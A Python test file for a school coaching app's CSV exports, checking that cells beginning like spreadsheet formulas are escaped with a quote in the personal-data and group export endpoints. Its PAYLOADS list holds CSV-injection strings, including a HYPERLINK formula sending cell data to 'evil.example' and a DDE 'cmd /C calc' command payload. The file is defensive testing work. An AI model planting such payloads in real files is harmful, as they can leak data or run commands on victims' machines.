"""No cell of a CSV the app writes can run as a formula in a spreadsheet."""

import csv
import io
from typing import Any

from sqlmodel import Session

from app.csvfile import FORMULA_STARTS, safe_cell
from app.models import ObservationStatus, Role
from tests.factories import (
    ClientFactory,
    login,
    make_moment,
    make_observation,
    make_person,
    make_school,
)

PAYLOADS = [
    '=HYPERLINK("https://evil.example/?"&A1,"klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


def assert_no_formula(text: str, *expected: str) -> None:
    found = cells(text)
    dangerous = [c for c in found if c.startswith(FORMULA_STARTS)]
    assert dangerous == []
    for payload in expected:
        assert "'" + payload in found, payload


def test_a_cell_that_starts_like_a_formula_is_kept_as_text_and_numbers_stay_numbers() -> None:
    assert [safe_cell(p) for p in PAYLOADS] == ["'" + p for p in PAYLOADS]
    assert safe_cell(-3) == -3 and safe_cell(2.5) == 2.5 and safe_cell("gewoon") == "gewoon"


def test_my_data_as_csv_neutralises_every_formula_a_person_typed(
    session: Session, make_client: ClientFactory
) -> None:
    school = make_school(session)
    coach = make_person(session, school, [Role.coach])
    teacher = make_person(session, school, [Role.teacher])
    obs = make_observation(session, school, coach, teacher, summary=PAYLOADS[0])
    for i, payload in enumerate(PAYLOADS[1:]):
        make_moment(session, obs, offset_ms=1000 * (i + 1), note=payload)
    client = login(make_client(), coach)
    answer = client.get("/api/me/export", params={"format": "csv"})
    assert answer.status_code == 200
    assert_no_formula(answer.text, *PAYLOADS)


def test_the_coulissen_export_neutralises_names_an_admin_typed(
    session: Session, make_client: ClientFactory
) -> None:
    school = make_school(session, name="=1+1 College")
    group = make_person(session, school, [Role.teacher, Role.development_group])
    for _ in range(3):
        coach = make_person(session, school, [Role.coach])
        teacher = make_person(session, school, [Role.teacher])
        obs = make_observation(session, school, coach, teacher, status=ObservationStatus.ready)
        make_moment(session, obs)
    client: Any = login(make_client(), group)
    answer = client.get("/coulissen/export.csv")
    assert answer.status_code == 200
    assert_no_formula(answer.text, "=1+1 College")
